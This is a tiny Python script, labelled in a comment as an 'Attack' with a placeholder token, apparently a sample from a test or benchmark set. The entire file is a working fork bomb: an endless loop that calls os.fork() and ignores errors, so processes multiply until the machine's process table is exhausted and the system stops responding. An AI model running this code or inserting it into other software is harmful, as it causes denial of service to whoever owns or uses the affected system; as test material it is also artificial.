# Attack (token __TOKEN__): a fork bomb; every process forks for ever.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
